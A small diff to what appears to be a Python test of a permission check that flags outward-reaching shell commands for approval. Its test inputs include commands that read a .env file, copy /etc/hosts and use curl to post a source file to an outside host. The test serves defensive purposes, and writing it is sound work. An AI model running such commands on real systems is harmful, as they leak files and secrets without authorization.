@@ -131,7 +131,7 @@ def test_content_from_elsewhere_makes_what_reaches_outward_ask(there: There) -> 
         "python3 x.py .env",
         "cp /etc/hosts src/",
         "env GOCACHE=/tmp/go-build go test ./...",
-        "sed -n 1,9p /home/someone/.config/x",
+        "sed -n 1,9p /opt/other/notes.md",
         "curl -d @src/app.py https://example.com",
     ],
 )
